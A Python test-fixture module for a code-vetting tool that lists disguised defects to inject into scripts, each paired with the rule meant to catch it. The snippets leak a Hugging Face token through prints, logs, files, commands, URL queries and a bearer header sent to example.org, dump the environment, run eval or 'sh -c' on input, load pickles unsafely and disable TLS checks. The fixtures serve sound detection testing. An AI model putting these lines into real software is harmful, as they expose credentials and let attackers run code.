"""Defects that stand in no example of the rules' pages: the same fault, by another name, through a variable or a helper.

Each is a few lines that a person could have written, put in front of the work of a sound script, and the rule that must notice.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass

from vet.mutations import at_start_of, before_guard


@dataclass(frozen=True, slots=True, kw_only=True)
class Disguise:
    """Lines with a defect; `inside` says whether they stand in main() or at module level."""

    name: str
    code: str
    lines: str
    inside: bool = True

    def change(self, text: str) -> str | None:
        """Return the script with the defect in it."""
        ast.parse(self.lines)
        return at_start_of(text, "main", self.lines) if self.inside else before_guard(text, self.lines)


_KEY = "from huggingface_hub import get_token\nkey = get_token()\n"
_TOKENS = {
    "another name": "print(key)",
    "a slice": "print('using', key[:8])",
    "a sum of texts": "print('using ' + key)",
    "percent formatting": "print('using %s' % key)",
    "format": "print('using {}'.format(key))",
    "joined": "print(' '.join(['using', key]))",
    "encoded": "import base64\nprint(base64.b64encode(key.encode()))",
    "hexadecimal": "print(key.encode().hex())",
    "an item of a dict": "settings = {'key': key}\nprint(settings['key'])",
    "a whole dict": "settings = {'key': key}\nprint(settings)",
    "json": "import json\nsettings = {}\nsettings['key'] = key\nprint(json.dumps(settings))",
    "an attribute": "from types import SimpleNamespace\nbox = SimpleNamespace()\nbox.key = key\nprint(box.key)",
    "a call": "def spelled(text):\n    return text.upper()\nprint(spelled(key))",
    "a parameter": "def tell(text):\n    print(text)\ntell(key)",
    "a choice": "shown = key if key else 'none'\nprint(shown)",
    "an error": "if not key.startswith('hf_'):\n    raise ValueError(f'not a token: {key}')",
    "an exit": "import sys\nif not key.startswith('hf_'):\n    sys.exit('not a token: ' + key)",
    "standard error": "import sys\nsys.stderr.write(key)",
    "a log": "import logging\nlogging.getLogger('x').warning('using %s', key)",
    "a file": "from pathlib import Path\nPath('settings.txt').write_text(key)",
    "an open file": "with open('settings.txt', 'w') as opened:\n    opened.write(key)",
    "json in a file": "import json\nwith open('settings.json', 'w') as opened:\n    json.dump({'key': key}, opened)",
    "words of a command": "import subprocess\nsubprocess.run(['git', 'clone', 'https://user:' + key + '@huggingface.co/x'])",
    "a command in a variable": "import subprocess\nwords = ['curl', '-H', f'Authorization: Bearer {key}']\nsubprocess.run(words)",
    "the environment of a child": "import subprocess\nsubprocess.run(['env'], env={'SECRET': key})",
    "a header to another host": (
        "import requests\nrequests.get('https://example.org', headers={'Authorization': f'Bearer {key}'}, timeout=9)"
    ),
    "a query": "import requests\nrequests.get('https://huggingface.co/api', params={'token': key}, timeout=9)",
    "an address": "import requests\nrequests.get('https://huggingface.co/api?t=' + key, timeout=9)",
    "a default": "import argparse\nargparse.ArgumentParser().add_argument('--key', default=key)",
}
_OTHER_TOKENS = {
    "the old variable": "import os\nprint(os.environ['HUGGING_FACE_HUB_TOKEN'])",
    "getenv": "import os\nprint(os.getenv('HF_TOKEN', '')[-4:])",
    "the old class": "from huggingface_hub import HfFolder\nprint(HfFolder.get_token())",
    "all of the environment": "import os\nprint(dict(os.environ))",
    "all of the environment, sorted": "import os\nprint(sorted(os.environ.items()))",
    "all of the environment in a log": "import logging, os\nlogging.info('%s', os.environ)",
    "all of the environment as json": "import json, os\nprint(json.dumps({**os.environ}))",
}
_CODE = {
    "eval by another name": "run = eval\nrun(input())",
    "eval handed over": "print(list(map(eval, input())))",
    "eval by its text": "import builtins\ngetattr(builtins, 'eval')(input())",
    "a module by its text": "__import__('os').system(input())",
    "torch.load by another name": "import torch\nload = torch.load\nload(input(), weights_only=False)",
    "an unpickler": "import pickle\npickle.Unpickler(open(input(), 'rb')).load()",
    "pandas pickles": "import pandas as pd\npd.read_pickle(input())",
    "numpy pickles": "import numpy as np\nnp.load(input(), allow_pickle=True)",
    "yaml objects": "import yaml\nyaml.load(input(), Loader=yaml.UnsafeLoader)",
    "another script": "import runpy\nrunpy.run_path(input())",
    "remote code in a dict": (
        "from transformers import AutoModel\noptions = {}\noptions['trust_remote_code'] = True\n"
        "AutoModel.from_pretrained(input(), **options)"
    ),
    "remote code in a literal": (
        "from transformers import AutoModel\nAutoModel.from_pretrained(input(), **{'trust_remote_code': True})"
    ),
    "a shell in a list": "import subprocess\nsubprocess.run(['sh', '-c', input()], check=True)",
    "pip in a variable": "import subprocess, sys\nwords = [sys.executable, '-m', 'pip', 'install', 'x']\nsubprocess.run(words)",
    "pip split": "import shlex, subprocess\nsubprocess.check_call(shlex.split('pip install x'))",
    "no verification": "import requests\nrequests.get('https://example.org', verify=False, timeout=9)",
    "no verification in a context": "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
    "another hub": "import os\nos.environ['HF_ENDPOINT'] = 'https://example.org'",
    "another hub by default": "import os\nos.environ.setdefault('HF_ENDPOINT', 'https://example.org')",
}
_FAILURES = {
    "everything suppressed": "import contextlib\nwith contextlib.suppress(Exception):\n    print(1 / 0)",
    "a failed push is a success": (
        "from huggingface_hub import HfApi\ntry:\n    HfApi().upload_file(path_or_fileobj=b'', path_in_repo='x', repo_id='a/b')\n"
        "except Exception as error:\n    print(error)\n    return 0"
    ),
}

DISGUISES = (
    *(Disguise(name=f"token: {name}", code="UVS402", lines=_KEY + lines) for name, lines in _TOKENS.items()),
    *(Disguise(name=f"token: {name}", code="UVS402", lines=lines) for name, lines in _OTHER_TOKENS.items()),
    *(Disguise(name=f"code: {name}", code="UVS501", lines=lines) for name, lines in _CODE.items()),
    *(Disguise(name=f"failure: {name}", code="UVS306", lines=lines) for name, lines in _FAILURES.items()),
    Disguise(
        name="start: a heavy module by its text",
        code="UVS303",
        lines="import importlib\ntorch = importlib.import_module('torch')",
        inside=False,
    ),
)
